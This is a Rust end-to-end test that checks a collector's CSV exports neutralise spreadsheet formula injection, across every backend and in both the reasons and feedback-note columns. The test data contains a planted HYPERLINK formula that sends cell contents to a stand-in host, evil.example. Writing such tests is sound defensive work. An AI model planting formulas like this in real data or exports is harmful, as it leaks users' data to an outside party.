//! Planted spreadsheet formulas in the real collector's CSV exports: an
//! agent's reason and an analyst's note that start with `=` open as text.

use bfp_common::wire::CONTENT_TYPE;
use bfp_e2e::forward::{device_add, post_auth, sample_batch};
use bfp_e2e::{get, Backend, Collector};
use serde_json::json;

const PLANTED: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";

/// The cells of a CSV line (the csv crate's quoting undone).
fn cells(csv: &str, containing: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(csv.as_bytes());
    let row = reader
        .records()
        .map(|r| r.expect("CSV record"))
        .find(|r| r.iter().any(|cell| cell.contains(containing)))
        .unwrap_or_else(|| panic!("no row containing {containing:?} in\n{csv}"));
    row.iter().map(str::to_string).collect()
}

#[test]
fn planted_formulas_export_as_text() {
    for backend in Backend::ALL {
        planted_formulas_export_as_text_on(backend);
    }
}

fn planted_formulas_export_as_text_on(backend: Backend) {
    eprintln!("backend: {backend:?}");
    let dir = backend.fresh();
    let db = dir.db().to_os_string();
    let token = device_add(&db, "pi-1");
    let c = Collector::start(&db, &[]);
    let mut batch = sample_batch(1, 1);
    batch.records[0].reasons = vec![PLANTED.to_string()];
    let r = post_auth(&c.url("/api/ingest"), Some(&token), CONTENT_TYPE, &batch.encode().unwrap());
    assert_eq!(r.status, 200, "{}", r.body);

    let export = c.get("/api/export.csv").body;
    let row = cells(&export, "HYPERLINK");
    let reasons = row.iter().find(|cell| cell.contains("HYPERLINK")).unwrap();
    assert_eq!(reasons, &format!("'{PLANTED}"), "{export}");
    assert!(row.iter().all(|cell| !cell.starts_with(['=', '+', '@', '\t', '\r'])), "{row:?}");

    let id = get(&c.url("/api/results?limit=1")).json()["results"][0]["id"].as_i64().unwrap();
    let note = format!("-1+{PLANTED}");
    let r = c.post_json(&format!("/api/results/{id}/feedback"), &json!({"label": "false_positive", "note": note}));
    assert_eq!(r.status, 200, "{}", r.body);
    let labelled = c.get("/api/export/labelled.csv").body;
    let row = cells(&labelled, "HYPERLINK");
    assert_eq!(row.last().unwrap(), &format!("'{note}"), "{labelled}");
}
